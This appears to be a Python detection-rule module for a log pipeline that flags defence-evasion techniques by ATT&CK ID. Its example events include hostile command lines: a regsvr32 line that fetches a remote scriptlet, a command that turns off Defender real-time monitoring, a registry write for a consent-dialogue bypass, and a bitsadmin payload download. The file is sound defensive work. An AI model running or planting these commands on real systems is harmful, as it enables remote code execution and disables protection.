"""Signed programs run foreign code, protection is switched off, the consent dialogue is passed by."""

from collections.abc import Sequence

from pipeline.detectors.detector import Example
from pipeline.detectors.logs.host_rule_detector import HostRuleDetector, process_example


class DefenceEvasion(HostRuleDetector):
    """Rules of the family `defence_evasion`: signed programs that run foreign code, protection switched off, the
    consent dialogue passed by, code put into other programs.
    """

    id = "logs.defence_evasion"
    family = "defence_evasion"
    title = "Protection evaded"
    severity = 4
    attacks = (
        "T1218",
        "T1218.003",
        "T1218.005",
        "T1218.010",
        "T1218.011",
        "T1197",
        "T1127.001",
        "T1055",
        "T1562.001",
        "T1562.002",
        "T1562.004",
        "T1548.001",
        "T1548.002",
        "T1134",
        "T1036.005",
        "T1027",
        "T1564.001",
        "T1564.004",
        "T1222.001",
        "T1112",
        "T1014",
        "T1620",
    )
    misses = (
        "Signed programs that are not named in the rules, and protection that is switched off before its "
        "events are forwarded."
    )
    usual = "System programs work on system files; protection stays on."

    @classmethod
    def examples(cls) -> Sequence[Example]:
        return (
            process_example(
                "a scriptlet",
                True,
                {"command_line": "regsvr32 /s /n /u /i:http://203.0.113.5/a.sct scrobj.dll"},
            ),
            process_example(
                "protection off",
                True,
                {"command_line": "powershell Set-MpPreference -DisableRealtimeMonitoring $true"},
            ),
            process_example(
                "the consent dialogue",
                True,
                {
                    "action": "registry_set",
                    "image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "target": "HKU\\S-1-5-21-1_Classes\\ms-settings\\shell\\open\\command\\(Default)",
                },
            ),
            process_example(
                "a download service",
                True,
                {"command_line": "bitsadmin.exe /transfer /Download https://example.org/a.ps1 C:\\x.ps1"},
            ),
            process_example(
                "everyday system programs",
                False,
                {"command_line": "regsvr32 /s C:\\Windows\\System32\\vbscript.dll"},
                {"command_line": "rundll32.exe shell32.dll,Control_RunDLL desk.cpl"},
                {"command_line": "netsh advfirewall show allprofiles"},
            ),
        )
